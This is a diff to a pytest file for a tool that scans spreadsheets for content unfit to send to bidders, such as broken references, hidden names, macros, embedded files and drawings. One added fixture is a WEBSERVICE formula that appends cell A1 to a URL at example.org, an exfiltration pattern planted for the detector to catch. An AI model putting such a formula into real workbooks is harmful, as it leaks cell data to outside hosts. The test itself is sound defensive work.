@@ -62,6 +62,10 @@ PLANTED: dict[str, tuple[Change, str]] = {
     "an error in a formula": (cell("=SUM(#REF!)"), "Lots!B1: its formula holds #REF!"),
     "a sheet that is gone": (cell("=Gone!A1"), "points to the sheet Gone"),
     "a quoted sheet that is gone": (cell("='Gone by'!A1:B2"), "points to the sheet Gone by"),
+    "a function that reaches out": (
+        cell('=_xlfn.WEBSERVICE("https://example.org/"&A1)'),
+        "uses WEBSERVICE, which reaches outside",
+    ),
     "another file": (cell("=[1]Lots!A1"), "points to another file"),
     "a name of a sheet that is gone": (name("Gone!$A$1"), "name Odd: points to the sheet Gone"),
     "a name that points nowhere": (name("#REF!"), "name Odd: points nowhere"),
@@ -96,6 +100,10 @@ def comment(book: Workbook) -> None:
     book["Lots"]["A1"].comment = Comment("Ask finance", "A. Officer")
 
 
+def hidden_name(book: Workbook) -> None:
+    book.defined_names["Secret"] = DefinedName("Secret", attr_text='"x"', hidden=True)
+
+
 def author(book: Workbook) -> None:
     book.properties.creator = "A. Officer"
 
@@ -112,6 +120,7 @@ def editor(book: Workbook) -> None:
         (hidden_row, "Lots: has hidden rows or columns"),
         (hidden_column, "Lots: has hidden rows or columns"),
         (comment, "may not go to bidders"),
+        (hidden_name, "name Secret: is hidden"),
         (author, "names an author"),
         (editor, "names an author"),
     ],
@@ -128,3 +137,14 @@ def test_what_may_not_go_to_bidders_is_found_in_their_edition_alone(change: Chan
 def test_parts_that_may_not_go_to_bidders(part: str) -> None:
     content = with_parts(saved(sound()), {part: b"<x/>"})
     assert any(part in one for one in faults(content, Edition.ISSUE))
+
+
+@pytest.mark.parametrize("part", ["xl/vbaProject.bin", "xl/embeddings/x.docx", "xl/externalLinks/externalLink1.xml"])
+@pytest.mark.parametrize("edition", list(Edition))
+def test_macros_embedded_files_and_links_to_files_are_for_nobody(part: str, edition: Edition) -> None:
+    assert any(part in one for one in faults(with_parts(saved(sound()), {part: b"<x/>"}), edition))
+
+
+def test_a_drawing_may_not_go_to_bidders() -> None:
+    content = with_parts(saved(sound()), {"xl/drawings/drawing1.xml": b"<x/>"})
+    assert any("drawing1.xml: may not go" in one for one in faults(content, Edition.ISSUE))
